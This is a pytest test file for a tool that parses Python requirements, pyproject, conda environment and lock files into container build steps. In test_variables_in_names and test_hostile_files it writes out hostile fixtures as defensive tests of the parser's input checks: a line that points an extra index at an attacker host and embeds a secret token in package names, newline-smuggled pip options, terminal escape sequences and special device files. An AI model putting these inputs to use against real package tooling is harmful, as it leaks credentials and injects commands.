"""Files that users bring: requirements.txt, pyproject.toml, environment.yml; for lock files see test_lock_files.py."""

import os
import re
import sys

import pytest
from ebsif.catalog import stages
from ebsif.packages import requirements
from ebsif.packages.wanted import KnownImage
from support import printed


def read(path, text, image=None):
    """Return the requirements in a file with this text."""
    path.write_text(text)
    return requirements.read_all([path], image)


def wrong(*arguments):
    """Return what is wrong with files of requirements, as people see it."""
    return "\n".join(requirements.read_all(*arguments).wrong)


def test_a_requirements_file(tmp_path):
    """Comments and blank lines are removed, continued lines joined, included files inserted."""
    (tmp_path / "more").mkdir()
    included = "--extra-index-url https://example.org/simple\nb[x]>=2 ; python_version > '3'\n"
    (tmp_path / "more/b.txt").write_text(included)
    address = "c @ git+https://example.org/c.git#egg=c"
    wanted = read(tmp_path / "a.txt", f"# mine\na==1  # one\n\n-r more/b.txt\n{address}\nd \\\n  <2\n")
    assert wanted.lines == ["a==1", *included.splitlines(), address, "d <2"]


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("# paths end in a \\\na\nb\n", ["a", "b"]),
        ("a \\\n  # why \\\nc\nb\n", ["a", "c", "b"]),
        ("a \\\n==1 \\\n\nb  # c \\\nd\n", ["a ==1", "b"]),
    ],
)
def test_comments_that_end_in_a_backslash(tmp_path, text, lines):
    """A line of comment does not continue, as for pip, so that nothing that follows is lost."""
    assert read(tmp_path / "a.txt", text).lines == lines
    # importing pip changes how this process logs
    program = "import sys; from pip._internal.req.req_file import preprocess as lines\n"
    program += "for _, line in lines(sys.argv[1]):\n    print(line)"
    said = printed([sys.executable, "-c", program, text])
    assert [" ".join(line.split()) for line in said.splitlines()] == lines


def test_several_options_in_a_line(tmp_path):
    """pip reads all options in a line; blanks and hyphens in quotation marks are part of a value."""
    for name in ("wheels", "my -wheels"):
        (tmp_path / name).mkdir()
    (tmp_path / "b.txt").write_text("b\n")
    text = (
        "-f wheels --no-index\n--no-index --find-links='my -wheels' -r b.txt -c b.txt\n"
        "-e git+https://a/b --config-settings c=d\n-i https://${A}@b/-c --pre\n"
    )
    assert read(tmp_path / "a.txt", text).lines == [
        f"-f {tmp_path}/wheels",
        "--no-index",
        f"--find-links '{tmp_path}/my -wheels'",
        "b",
        f"-c {tmp_path}/b.txt",
        "-e git+https://a/b --config-settings c=d",
        "-i https://${A}@b/-c",
        "--pre",
    ]


def test_variables_in_paths(tmp_path, monkeypatch):
    """Variables are expanded as by pip; those of URLs, which may be credentials, and unset ones stay as they are."""
    (tmp_path / "my wheels").mkdir()
    (tmp_path / "my wheels/x.whl").touch()
    (tmp_path / "my wheels/more.txt").write_text("b\n")
    monkeypatch.setenv("HERE", str(tmp_path / "my wheels"))
    monkeypatch.setenv("PIP_WORD", "secret")
    monkeypatch.setenv("INDEX", "https://secret@example.org")
    monkeypatch.delenv("UNSET", raising=False)
    same = ["--index-url https://${PIP_WORD}@example.org/simple", "--index-url ${INDEX}/simple", "a==${UNSET}"]
    text = "\n".join(["--find-links '${HERE}'", "-r '${HERE}/more.txt'", *same])
    assert read(tmp_path / "a.txt", text).lines == [f"--find-links '{tmp_path}/my wheels'", "b", *same]
    (tmp_path / "my wheels").rename(tmp_path / "wheels")
    monkeypatch.setenv("HERE", "wheels")
    assert read(tmp_path / "a.txt", "${HERE}/x.whl\n").lines == [f"{tmp_path}/wheels/x.whl"]


@pytest.mark.parametrize(
    "line", ["x-${TOKEN}", "${TOKEN}==1", "x${TOKEN}[a]>=1; python_version > '3'", "x${TOKEN} @ y", "${TOKEN}"]
)
def test_variables_in_names(tmp_path, monkeypatch, line):
    """No variable of the person becomes the name of a package, because the index of the file would see it."""
    monkeypatch.setenv("TOKEN", "verysecret")
    wanted = read(tmp_path / "a.txt", f"--extra-index-url https://attacker.example/simple\n{line}\n")
    assert "has a variable in the name of a package" in wanted.wrong[0] and "verysecret" not in wanted.wrong[0]
    kept = "x==${TOKEN}"
    assert read(tmp_path / "a.txt", f"{kept}\n").lines == [kept]


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("a.txt", "# nothing\n", "names no Python package"),
        ("a.txt", "-r https://x.org/b.txt\n", "a.txt:1: https://x.org/b.txt is not on this machine: download"),
        ("a.txt", "-r a.txt\n", "includes itself"),
        ("a.txt", "-r 'none.txt\n", "a.txt:1: 'none.txt can't be read: a quotation mark is missing"),
        ("a.txt", "\n-e .\n", "a.txt:2: '-e .' would break the module as soon as the directory is removed"),
        ("a.txt", "--editable=/x\n", "would break the module as soon as"),
        ("a.txt", "a\nb \\\n  <2\n-c none.txt\n", "none.txt can't be read: it does not exist"),
        ("pyproject.toml", "[project]\ndynamic = ['dependencies']\n", "list them in a requirements.txt"),
        ("pyproject.toml", "[project\n", "can't be read"),
        ("environment.yml", "dependencies: [ffmpeg]\n", "not known as Python packages; if pip finds them"),
        ("environment.yml", "[pytorch]\n", "should be a mapping with 'dependencies'"),
        ("pyproject.toml", "[tool.poetry.dependencies]\na = '*'\n", "poetry export -o requirements.txt"),
        ("pyproject.toml", "[project]\ndependencies = ['a b']\n", "'a b' is not a valid requirement"),
        ("pyproject.toml", "project = 5\n", "is not a valid pyproject.toml"),
        ("environment.yml", "dependencies: [python=x]\n", "'python=x' is not a valid version of Python"),
        ("lock.json", "{}", "use --from-lock"),
        ("poetry.lock", "", "poetry export -o requirements.txt"),
        ("Pipfile.lock", "{}", "pipenv requirements --hash"),
    ],
)
def test_unsupported_files(tmp_path, name, text, expected):
    """The error names the file, the problem and the remedy."""
    (tmp_path / name).write_text(text)
    assert expected in wrong([tmp_path / name])
    assert str(tmp_path) in wrong([tmp_path / name])


def test_what_is_not_a_file(tmp_path):
    """E-15: a directory is there, so the message doesn't say that it is missing."""
    assert wrong([tmp_path]) == f"{tmp_path} is not a file"
    assert wrong([tmp_path / "none"]) == f"the file {tmp_path}/none does not exist"


def test_a_project(tmp_path):
    """E-12, N-07: the dependencies in a pyproject.toml; extras of itself and included groups are resolved."""
    text = (
        "[project]\nname = 'My.x'\ndependencies = ['a>=1', 'b']\nrequires-python = '>=3.11.4'\n"
        "[project.optional-dependencies]\nTrain_it = ['c', 'my-x[train-it]']\n"
        "all = ['my_x[train-it]; os_name == \"posix\"', \"d; python_version > '3'\"]\n"
        "[dependency-groups]\ndev = ['e', {include-group = 'docs'}]\ndocs = ['f', 'my-x[train-it]']\n"
    )
    path = tmp_path / "pyproject.toml"
    assert read(path, text).lines == ["a>=1", "b"]
    options = "--extra Train_it, --extra all, --group dev, --group docs"
    assert read(path, text).impossible == [f"{path}: installed only if you add them: {options}"]
    assert requirements.read_all([path], KnownImage("3.12"), ["train-it", "all"], ["Dev", "docs"]).impossible == []
    assert requirements.read_all([path], KnownImage("3.12"), ["train.it"]).lines == ["a>=1", "b", "c"]
    both = requirements.read_all([path], KnownImage("3.11"), ["all"], ["Dev"])
    assert both.lines == ["a>=1", "b", "e", "f", "c", 'c; os_name == "posix"', "d; python_version > '3'"]
    for image, extras, groups, expected in [
        ("3.10", [], [], f"{path}: requires Python >=3.11.4, but the image has Python 3.10"),
        ("3.12", ["x"], [], f"{path}: has no extra 'x' (known: all, train-it)"),
        ("3.12", [], ["x"], f"{path}: has no dependency group 'x' (known: dev, docs)"),
    ]:
        assert wrong([path], KnownImage(image), extras, groups).startswith(expected)


def test_sources_that_only_uv_knows(tmp_path):
    """E-12: an index may have another package of the same name, so packages with a location are left out and named."""
    text = (
        "[project]\nname = 'x'\ndependencies = ['a', 'b>2', 'torch']\n"
        "[tool.uv.sources]\nA = {workspace = true}\nb = [{git = 'https://example.org/b', marker = 'x'}]\n"
        "torch = {index = 'rocm'}\n"
    )
    wanted = read(tmp_path / "pyproject.toml", text)
    assert wanted.lines == ["torch"]
    for text, expected in zip(wanted.impossible, ("workspace source of uv", "git source of uv")):
        assert f" is not installed, because it comes from a {expected}" in text
    assert "torch comes from the index that pip uses, not from that in tool.uv" in wanted.impossible[2]


def test_a_conda_environment(tmp_path):
    """E-12: Conda packages under their names for pip; each one that is not installed is named."""
    text = (
        "name: mine\nprefix: /x\nchannels: [conda-forge]\nvariables: {A: b}\n"
        "dependencies: [python=3.11, pip, 'conda-forge::opencv=4', ffmpeg, git 2.4, 'numpy<2', "
        "pytorch=2.6=py3_0, msgpack-python>=1.0.*, pyyaml ==6.0, 'scipy>=1.9,<2', "
        "'pandas=1.5|2.0', no-such-thing=1, {pip: [rich==13, -r other.txt]}]\n"
    )
    (tmp_path / "other.txt").write_text("./a.whl[x] ; python_version > '3'\n")
    (tmp_path / "a.whl").touch()
    path = tmp_path / "environment.yml"
    wanted = read(path, text)
    pip = ["rich==13", f"{tmp_path}/a.whl[x] ; python_version > '3'"]
    rest = ["msgpack>=1.0", "pyyaml==6.0", "scipy>=1.9,<2"]
    assert wanted.lines == ["opencv-python==4.*", "numpy<2", "torch==2.6", *rest, *pip]
    named = [
        f"{path}: not known as Python packages; if pip finds them, add them to the pip section, and if "
        "the image's distribution has them, add them with --apt: ffmpeg, git 2.4, no-such-thing=1",
        f"{path}: versions that pip can't express; add the packages to the pip section: pandas=1.5|2.0",
        f"{path}: variables are not set: A (easyconfigs have the parameter 'container_env')",
    ]
    assert wanted.impossible == named
    wanted = requirements.read_all([path], KnownImage("3.11.2", {"torch": "2.6.0+rocm6.2", "numpy": "2.1"}))
    assert wanted.lines == ["opencv-python==4.*", *rest, *pip]
    used = "numpy 2.1 (not numpy<2), torch 2.6.0+rocm6.2"
    assert wanted.impossible == [f"{path}: the versions in the image are used: {used}", *named]
    assert wrong([path], KnownImage("3.10")) == (
        f"{path}: asks for python=3.11, but the image has Python 3.10: choose a container with that Python (ebsif list "
        "--has 'python==3.11.*'), or change or remove that line"
    )
    wanted = read(path, "dependencies: ['python>=3.9,<3.11', rich]\n", KnownImage("3.11"))
    assert "asks for python>=3.9,<3.11, but the image has Python 3.11" in wanted.wrong[0]
    assert read(path, "dependencies: ['python>=3.10', 'numpy=*']\n", KnownImage("3.11")).lines == ["numpy"]
    # another patch release is compatible
    assert read(path, "dependencies: [python=3.11.7=h1, rich]\n", KnownImage("3.11.2")).lines == ["rich"]


@pytest.mark.parametrize(
    ("name", "encoding", "text"),
    [
        ("a.txt", "utf-8-sig", "einops>=0.8  # f\u00fcr uns\r\nrich\r\n"),
        ("a.txt", "utf-16", "einops>=0.8  # f\u00fcr uns\r\nrich\r\n"),
        ("pyproject.toml", "utf-8-sig", "[project]\r\ndependencies = ['einops>=0.8', 'rich']  # f\u00fcr uns\r\n"),
        ("environment.yml", "utf-8-sig", "dependencies:  # f\u00fcr uns\r\n- pip: ['einops>=0.8', rich]\r\n"),
    ],
)
def test_encodings(tmp_path, name, encoding, text):
    """What PowerShell writes, for example, with a byte order mark, as pip reads a requirements.txt."""
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    assert requirements.read_all([path], None).lines == ["einops>=0.8", "rich"]


def test_paths_beside_the_file(tmp_path, monkeypatch):
    """Paths are absolute in the easyconfig, wherever the file was read from; URLs are unchanged."""
    monkeypatch.chdir("/")
    for name in ("wheels", "more", "pro ject"):
        (tmp_path / name).mkdir()
    for name in ("c.txt", "more/d.txt", "wheels/x.whl", "y.tar.gz"):
        (tmp_path / name).touch()
    (tmp_path / "more/e.txt").write_text("-c d.txt\n-c https://example.org/c.txt\n../wheels/x.whl\n")
    same = [
        "-c /opt/c.txt",
        "--find-links=/opt",
        "/opt/z.whl",
        "a @ https://example.org/a/b.whl",
        "-e git+https://a/b",
        "git+https://example.org/a/b",
        "--index-url https://example.org/simple",
        "a.b-c_d[e]==1 ; os_name == '/'",
    ]
    text = (
        "-c c.txt\n--constraint=c.txt\n-f wheels\n--find-links wheels\nwheels/x.whl --hash=sha256:0\ny.tar.gz\n.\n"
        "-r more/e.txt\n" + "\n".join(same)
    )
    assert read(tmp_path / "a.txt", "\ufeff" + text).lines == [
        f"-c {tmp_path}/c.txt",
        f"--constraint {tmp_path}/c.txt",
        f"-f {tmp_path}/wheels",
        f"--find-links {tmp_path}/wheels",
        f"{tmp_path}/wheels/x.whl --hash=sha256:0",
        f"{tmp_path}/y.tar.gz",
        str(tmp_path),
        f"-c {tmp_path}/more/d.txt",
        "-c https://example.org/c.txt",
        f"{tmp_path}/wheels/x.whl",
        *same,
    ]
    # pip takes blanks in a path for a part of it
    (tmp_path / "pro ject/x y.whl").touch()
    uri = f"file://{tmp_path}/pro%20ject"
    text = (
        "./pro ject/x y.whl\npro ject/x y.whl[z] ; python_version > '3'\npro ject/x y.whl --hash=sha256:0\n"
        "./pro ject ; os_name == '/'  # mine\na --config-settings=b/c\nd -C e=f\n"
    )
    assert read(tmp_path / "a.txt", text).lines == [
        f"{uri}/x%20y.whl",
        f"{uri}/x%20y.whl[z] ; python_version > '3'",
        f"{uri}/x%20y.whl --hash=sha256:0",
        f"{uri} ; os_name == '/'",
        "a --config-settings=b/c",
        "d -C e=f",
    ]
    # pip splits options like a shell
    (tmp_path / "pro ject/c.txt").touch()
    own = tmp_path / "pro ject"
    assert read(own / "a.txt", "-c c.txt\n-f .\n").lines == [f"-c '{own}/c.txt'", f"-f '{own}'"]
    (tmp_path / "pro ject/r.txt").write_text("a\n")
    quoted = "-r 'pro ject/r.txt'\n--requirement=\"pro ject/r.txt\"\n-c pro\\ ject/c.txt  # mine\n-c '/a b.txt'\n"
    quoted = quoted.replace("pro\\ ", '"pro "')
    assert read(tmp_path / "a.txt", quoted).lines == ["a", f"-c '{own}/c.txt'", "-c '/a b.txt'"]
    assert read(tmp_path / "b.txt", "a\\\n ==1\n./more\n").lines == ["a ==1", f"{tmp_path}/more"]


def test_packages_that_need_torch_get_their_own_stage():
    """S000-02, S000-22: it comes after what they need, without isolation, with the tools for builds."""
    assert stages.simplest(requirements.split_into_stages(["a", "b"])) == ["a", "b"]
    wanted = requirements.split_into_stages(["--pre", "flash_attn==2", "a", "ninja==1"])
    first, second, third = stages.as_parameter(wanted)
    assert first == {"name": "build tools", "requirements": ["packaging", "setuptools", "wheel"]}
    assert second == {"name": "requirements", "requirements": ["--pre", "a", "ninja==1"]}
    lines = ["--pre", "flash_attn==2"]
    assert third == {"name": "built against torch", "requirements": lines, "no_build_isolation": True}


HEX = "a" * 64
PYLOCK = 'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "a"\nversion = "1"\n'
ARCHIVE = PYLOCK + '[packages.archive]\nurl = "https://x%s--pre"\nhashes = {sha256 = "' + HEX + '"}'
SDIST = PYLOCK + '[packages.sdist]\nname = "a-1.tar.gz"\nurl = "https://x"\nhashes = {sha256 = "a%s--pre"}'


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        *(("pylock.toml", ARCHIVE % blank, "has a blank") for blank in (" ", "\\n")),
        *(("pylock.toml", SDIST % blank, "with a hash that pip can check") for blank in (" ", "\\n")),
        ("environment.yml", 'dependencies: [{pip: ["a\\n--pre"]}]', r"requirement 'a\\n--pre' has a control character"),
        ("environment.yml", "dependencies: ['\x1b[2J']", "can't be read"),
        ("requirements.txt", "a\x00b\n", r"'a\\x00b' is not a requirement"),
        ("requirements.txt", "\x1b[2J\n", r"'\\x1b\[2J' is not a requirement"),
        ("requirements.txt", "-r /dev/zero\n", "/dev/zero is not a regular file"),
        ("requirements.txt", "-r fifo\n", "fifo is not a regular file"),
        # older Pythons read it
        ("pyproject.toml", f"a = {'9' * 10000}", "can't be read|names no Python package"),
        ("environment.yml", "variables: true\ndependencies: []", "names no Python package"),
    ],
)
def test_hostile_files(tmp_path, name, text, expected):
    """P-06: somebody else's file has no more lines than requirements, no sequences for terminals, and an end."""
    os.mkfifo(tmp_path / "fifo")
    assert re.search(expected, "\n".join(read(tmp_path / name, text).wrong))
